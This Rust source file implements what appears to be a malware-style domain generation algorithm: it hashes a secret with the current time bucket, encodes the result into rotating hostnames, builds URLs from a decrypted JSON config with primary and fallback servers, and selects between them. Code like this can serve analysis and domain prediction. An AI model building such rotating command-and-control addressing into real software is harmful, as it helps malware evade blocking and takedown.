use chrono::{DateTime, Timelike, Utc};
use rand::Rng;
use serde_json::Value;
use sha2::{Digest, Sha256};

pub const ALPHABET: &str = "BCEFGHIJKLMNOPQRTUVWXYZ123456789";

/// Hostname labels derived from a secret and the current time bucket.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DomainToken {
    pub domain_label: String,
    pub second_label: String,
    pub total_len: usize,
    pub split_point: usize,
}

impl DomainToken {
    pub fn host_prefix(&self) -> String {
        format!("{}.{}", self.domain_label, self.second_label)
    }
}

fn bucket_stamp(now: DateTime<Utc>, bucket_hours: u32) -> String {
    let bucket_hours = bucket_hours.max(1);
    let hour = now.hour() / bucket_hours * bucket_hours;
    format!("{}{:02}", now.format("%Y%m%d"), hour)
}

fn encode(digest: &[u8]) -> String {
    let symbols = ALPHABET.as_bytes();
    let mut out = String::with_capacity(digest.len() * 8 / 5 + 1);
    let mut bits: u32 = 0;
    let mut pending: u32 = 0;
    for byte in digest {
        bits = ((bits << 8) | *byte as u32) & 0xFFFF;
        pending += 8;
        while pending >= 5 {
            out.push(symbols[((bits >> (pending - 5)) & 31) as usize] as char);
            pending -= 5;
        }
    }
    if pending > 0 {
        out.push(symbols[((bits << (5 - pending)) & 31) as usize] as char);
    }
    out.to_ascii_lowercase()
}

pub fn generate_token(secret: &str, now: DateTime<Utc>, bucket_hours: u32) -> DomainToken {
    let stamp = bucket_stamp(now, bucket_hours);
    let digest = Sha256::digest(format!("{secret}|{stamp}").as_bytes());
    let total_len = 15 + digest[0] as usize % 26;
    let split_point = 1 + digest[1] as usize % (total_len - 14);
    let encoded = encode(&digest);
    DomainToken {
        domain_label: encoded[..split_point].to_owned(),
        second_label: encoded[split_point..total_len].to_owned(),
        total_len,
        split_point,
    }
}

fn random_segment(rng: &mut impl Rng) -> String {
    let symbols = ALPHABET.as_bytes();
    let len = rng.gen_range(10..=24);
    (0..len)
        .map(|_| {
            let ch = symbols[rng.gen_range(0..symbols.len())] as char;
            if ch.is_ascii_uppercase() && rng.gen_bool(0.5) {
                ch.to_ascii_lowercase()
            } else {
                ch
            }
        })
        .collect()
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DomainConfig {
    pub secret: String,
    pub tld: String,
    pub path_template: String,
    pub offset_hours: u32,
}

impl DomainConfig {
    pub fn token(&self, now: DateTime<Utc>) -> DomainToken {
        generate_token(&self.secret, now, self.offset_hours)
    }

    /// Every `{rnd}` gets its own random segment.
    pub fn build_url(&self, now: DateTime<Utc>, rng: &mut impl Rng) -> String {
        let mut path = String::with_capacity(self.path_template.len() + 32);
        let mut parts = self.path_template.split("{rnd}").peekable();
        while let Some(part) = parts.next() {
            path.push_str(part);
            if parts.peek().is_some() {
                path.push_str(&random_segment(rng));
            }
        }
        format!("https://{}{}{}", self.token(now).host_prefix(), self.tld, path)
    }

    /// Primary and secondary configs out of the decrypted `{l, s: {t1, t1s, t2, t2s}}` json.
    /// The secondary is optional.
    pub fn from_json(
        config: &Value,
        offset_hours: u32,
    ) -> Option<(DomainConfig, Option<DomainConfig>)> {
        let path_template = config.get("l")?.as_str()?;
        let servers = config.get("s")?;
        let field = |name: &str| servers.get(name).and_then(Value::as_str).map(str::to_owned);
        let primary = DomainConfig {
            secret: field("t1s")?,
            tld: field("t1")?,
            path_template: path_template.to_owned(),
            offset_hours,
        };
        let secondary = match (field("t2s"), field("t2")) {
            (Some(secret), Some(tld)) => Some(DomainConfig {
                secret,
                tld,
                path_template: path_template.to_owned(),
                offset_hours,
            }),
            _ => None,
        };
        Some((primary, secondary))
    }
}

/// Primary wins unless only the secondary carries `marker`.
pub fn select_url(primary: String, secondary: Option<String>, marker: &str) -> String {
    match secondary {
        Some(secondary) if !primary.contains(marker) && secondary.contains(marker) => secondary,
        _ => primary,
    }
}
